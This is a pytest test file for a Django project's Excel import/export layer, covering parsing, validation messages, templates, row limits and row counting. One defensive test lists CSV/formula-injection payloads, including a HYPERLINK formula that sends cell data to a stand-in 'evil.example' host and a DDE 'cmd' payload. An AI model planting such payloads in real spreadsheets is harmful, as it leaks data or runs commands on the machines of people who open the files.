"""Core's Excel layer: one declaration gives the export, the template, the import's reading
and the error report."""

import datetime
import io
import re
import zipfile

import pytest
from django.utils import translation
from openpyxl import Workbook, load_workbook

from waishi.core import excel as xl
from waishi.core.enums import UnitKind

SHEET = xl.Sheet(
    "Things 事物",
    (
        xl.Column("id", "ID", imported=False),
        xl.Column("name", "Name 名称", required=True, example="Example"),
        xl.Column("kind", "Kind 类型", kind=xl.Choice(UnitKind), example=UnitKind.COLLEGE.value),
        xl.Column("since", "Since 起始", kind=xl.DATE, example=datetime.date(2024, 5, 1)),
        xl.Column("active", "Active 有效", kind=xl.YES_NO, example=True),
        xl.Column("places", "Places 名额", kind=xl.Number(minimum=1, maximum=10)),
        xl.Column("tags", "Tags 标签", kind=xl.ListOf(xl.TEXT)),
        xl.Column("email", "E-mail 电子邮箱", kind=xl.EMAIL),
    ),
)
HEADERS = [c.header for c in SHEET.imported]


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def _file(rows, headers=HEADERS, title=SHEET.title):
    book = Workbook()
    sheet = book.active
    sheet.title = title
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    return buffer


def test_reading_parses_every_kind_in_either_language():
    reading = xl.read_workbook(
        _file(
            [
                ["  Maths   school ", "学院", "2024/5/1", "是", 3, "a; b；c", "a@example.edu"],
                ["Chemistry", "College", datetime.datetime(2020, 1, 2), None, None, None, None],
            ]
        ),
        [SHEET],
    )
    assert reading.problems == []
    assert [row.values for row in reading.rows[SHEET.title]] == [
        {
            "name": "Maths school",
            "kind": "college",
            "since": datetime.date(2024, 5, 1),
            "active": True,
            "places": 3,
            "tags": ["a", "b", "c"],
            "email": "a@example.edu",
        },
        {
            "name": "Chemistry",
            "kind": "college",  # by its value
            "since": datetime.date(2020, 1, 2),
            "active": False,
            "places": None,
            "tags": (),
            "email": "",
        },
    ]
    assert [row.number for row in reading.rows[SHEET.title]] == [2, 3]


def test_reading_lists_each_bad_cell_by_row_and_column():
    reading = xl.read_workbook(
        _file(
            [
                ["", "castle", "soon", "maybe", 11, "", "not-an-address"],
                ["Fine", "", "", "", "", "", ""],
            ]
        ),
        [SHEET],
    )
    assert [(p.sheet, p.row, p.column, p.message) for p in reading.problems] == [
        ("Things 事物", 2, "Name 名称", "This column is required."),
        (
            "Things 事物",
            2,
            "Kind 类型",
            "Unknown value “castle”; write one of: University, College or school, Department, "
            "Administrative office, Research institute, Other.",
        ),
        ("Things 事物", 2, "Since 起始", "Write the date as YYYY-MM-DD."),
        ("Things 事物", 2, "Active 有效", "Write yes or no."),
        ("Things 事物", 2, "Places 名额", "Write a whole number from 1 to 10."),
        ("Things 事物", 2, "E-mail 电子邮箱", "Enter a valid e-mail address."),
    ]
    assert [row.number for row in reading.rows[SHEET.title]] == [3]
    assert reading.whole is True


def test_a_missing_column_or_sheet_or_a_file_that_is_no_workbook_stops_the_reading():
    reading = xl.read_workbook(_file([["x"]], headers=HEADERS[:1]), [SHEET])
    assert [(p.row, p.column) for p in reading.problems] == [(1, header) for header in HEADERS[1:]]
    assert (reading.whole, reading.rows) == (False, {})
    other = xl.Sheet("Other 其他", SHEET.columns)
    reading = xl.read_workbook(_file([], title="Elsewhere"), [SHEET, other])
    assert [(p.sheet, p.message) for p in reading.problems] == [
        ("Things 事物", "The sheet “Things 事物” is missing."),
        ("Other 其他", "The sheet “Other 其他” is missing."),
    ]
    reading = xl.read_workbook(io.BytesIO(b"PK\x03\x04 not really"), [SHEET])
    assert [p.message for p in reading.problems] == ["The file could not be read as a workbook."]


def _understated(rows: int) -> io.BytesIO:
    """A workbook whose stored dimension says A1:H4, whatever it holds (as some programs
    write it)."""
    original = _file([[f"Name {n}", "", "", "", "", "", ""] for n in range(rows)])
    out = io.BytesIO()
    with zipfile.ZipFile(original) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:H4"', data)
            target.writestr(item, data)
    out.seek(0)
    return out


def test_every_row_is_read_whatever_the_stored_dimension_says():
    upload = _understated(50)
    with zipfile.ZipFile(upload) as book:
        assert b'<dimension ref="A1:H4"/>' in book.read("xl/worksheets/sheet1.xml")
    upload.seek(0)
    reading = xl.read_workbook(upload, [SHEET])
    assert reading.problems == []
    assert [row["name"] for row in reading.rows[SHEET.title]] == [f"Name {n}" for n in range(50)]


def test_a_file_over_the_row_limit_is_refused_with_a_message(settings):
    settings.IMPORT_MAX_ROWS = 5
    reading = xl.read_workbook(_understated(6), [SHEET])
    assert [(p.row, p.message) for p in reading.problems] == [
        (
            7,
            "The file has more than 5 rows, more than one import may hold. "
            "Split it into several files and import each.",
        )
    ]
    assert reading.whole is False
    settings.IMPORT_MAX_ROWS = 6
    assert xl.read_workbook(_understated(6), [SHEET]).problems == []


def test_template_has_the_imported_columns_and_an_example_that_reads_back():
    buffer = io.BytesIO()
    xl.write_template(buffer, [SHEET])
    buffer.seek(0)
    rows = list(load_workbook(buffer).active.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    assert rows[1][:5] == (
        "Example",
        "College or school",
        datetime.datetime(2024, 5, 1),
        "yes",
        None,
    )
    buffer.seek(0)
    assert [row.values["kind"] for row in xl.read_workbook(buffer, [SHEET]).rows[SHEET.title]] == [
        "college"
    ]


def test_export_writes_what_the_import_reads():
    buffer = io.BytesIO()
    records = [
        {
            "id": 7,
            "name": "Maths",
            "kind": "college",
            "since": datetime.date(2024, 5, 1),
            "active": False,
            "places": 2,
            "tags": ["a", "b"],
            "email": "",
        }
    ]
    xl.write_workbook(buffer, [(SHEET, records)])
    buffer.seek(0)
    sheet = load_workbook(buffer).active
    assert [c.value for c in sheet[2]] == [
        7,
        "Maths",
        "College or school",
        datetime.datetime(2024, 5, 1),
        "no",
        2,
        "a; b",
        None,
    ]
    assert sheet["D2"].number_format == "yyyy-mm-dd"
    buffer.seek(0)
    assert xl.read_workbook(buffer, [SHEET]).rows[SHEET.title][0].values == {
        key: value for key, value in records[0].items() if key != "id"
    }


def test_error_report_lists_each_problem_by_sheet_row_and_column():
    buffer = io.BytesIO()
    xl.write_problems(buffer, [xl.Problem("Things 事物", 4, "Kind 类型", "=unknown")])
    buffer.seek(0)
    sheet = load_workbook(buffer).active
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["Sheet 工作表", "Row 行", "Column 列", "Problem 问题"],
        ["Things 事物", 4, "Kind 类型", "=unknown"],
    ]
    assert sheet["D2"].data_type == "s"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/"&A2,"Open")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2",
        "@SUM(A1)",
    ],
)
def test_text_that_looks_like_a_formula_is_written_as_text(text):
    book = Workbook(write_only=True)
    sheet = book.create_sheet("S")
    sheet.append([xl.cell_value(sheet, text)])
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    cell = load_workbook(buffer).active["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_a_file_far_over_the_row_limit_is_refused_before_it_is_opened(settings, monkeypatch):
    # Opening it would load every text of the file first (600,000 rows: ~170 MB).
    settings.IMPORT_MAX_ROWS = 5

    def never(*args, **kwargs):
        raise AssertionError("the workbook was opened")

    monkeypatch.setattr(xl, "load_workbook", never)
    reading = xl.read_workbook(_understated(11), [SHEET])
    assert [(p.sheet, p.row, p.message) for p in reading.problems] == [
        (
            "",
            0,
            "The file has more than 5 rows, more than one import may hold. "
            "Split it into several files and import each.",
        )
    ]
    assert reading.whole is False


def test_rows_are_counted_whatever_their_size_and_the_chunks(monkeypatch):
    # Rows cut across the megabyte chunks the counting reads, and a row far longer than one.
    monkeypatch.setattr(zipfile.ZipExtFile, "read", _small_reads(zipfile.ZipExtFile.read))
    upload = io.BytesIO()
    with zipfile.ZipFile(upload, "w") as book:
        rows = [b"<row r='1'><c><v>1</v></c></row>", b"<row r='2'><c s='1'/></row>"]
        rows.append(b"<row r='3'>" + b"<c s='1'/>" * 50 + b"<c><is><t>x</t></is></c></row>")
        rows += [b"<x:row r='%d'><x:c><x:v>2</x:v></x:c></x:row>" % n for n in range(4, 9)]
        book.writestr("xl/worksheets/sheet1.xml", b"<sheetData>" + b"".join(rows) + b"</sheetData>")
    assert xl._count_rows(upload, 100) == 7
    assert xl._count_rows(upload, 3) == 4


def _small_reads(read):
    def small(self, n=-1):
        return read(self, 7 if n and n > 0 else n)

    return small
